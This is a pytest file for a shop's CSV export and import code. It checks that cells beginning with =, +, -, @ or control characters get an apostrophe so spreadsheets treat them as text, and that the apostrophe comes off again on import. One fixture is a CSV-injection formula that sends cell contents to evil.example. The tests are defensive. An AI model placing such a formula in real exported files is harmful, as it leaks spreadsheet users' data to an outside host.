"""Every CSV the shop hands out is written by one writer (`shop.csvfile.to_csv`), which puts an
apostrophe before a text cell a spreadsheet would run as a formula; the imports take it off, so
an exported catalog comes back unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from shop import csvfile
from shop.catalog import imports
from shop.catalog.listings import EXPORT_COLUMNS, export_catalog
from shop.catalog.models import Product
from shop.extensions import db
from shop.invoices import statements
from tests import builders
from tests.conftest import TODAY
from tests.invoices.helpers import paid_order

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+84912345678", "'+84912345678"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Chè = ngon", "Chè = ngon"), ("", ""), (-5, -5), (42, 42)])
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell, written):
    assert csvfile.guarded(cell) == written
    if isinstance(cell, str):
        assert csvfile.unguarded(csvfile.guarded(cell)) == cell


def test_the_admins_figures_name_a_product_called_like_a_formula_as_text(client, login, market):
    product = market.tea.product
    product.name = FORMULA
    db.session.commit()
    paid_order(("CHE-1", 1))
    login(builders.user("office@example.com", "admin"))
    body = client.get("/admin/stats/top_products.csv").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[1][1] == "'" + FORMULA


def test_the_producers_catalog_and_statement_write_formulas_as_text_and_read_them_back(market):
    product = market.tea.product
    product.description = "- Chè búp\n- 100 g"
    product.producer.name = "+HTX Chè"
    db.session.commit()
    exported = export_catalog(product.producer, today=TODAY)
    row = next(csv.DictReader(io.StringIO(exported)))
    assert (row["description"], row["producer_name"]) == ("'- Chè búp\n- 100 g", "'+HTX Chè")
    report = imports.import_catalog(exported, today=TODAY)
    assert not report.changed  # the apostrophes come off on the way back
    assert db.session.get(Product, product.id).description == "- Chè búp\n- 100 g"
    assert list(csv.reader(io.StringIO(exported)))[0] == list(EXPORT_COLUMNS)
    paid_order(("CHE-1", 1))
    statement = statements.monthly(product.producer, TODAY.replace(day=1), fee_basis_points=500)
    lines = dict(row for row in csv.reader(io.StringIO(statements.to_csv(statement))) if len(row) == 2)
    assert lines["producer"] == "'+HTX Chè"


def test_no_export_writes_csv_but_through_the_one_writer():
    writers = [str(path.relative_to(ROOT)) for path in (ROOT / "shop").rglob("*.py")
               if ("csv.writer" in path.read_text() or "csv.DictWriter" in path.read_text())
               and path.name != "csvfile.py" and "generate" not in path.parts]
    assert writers == []
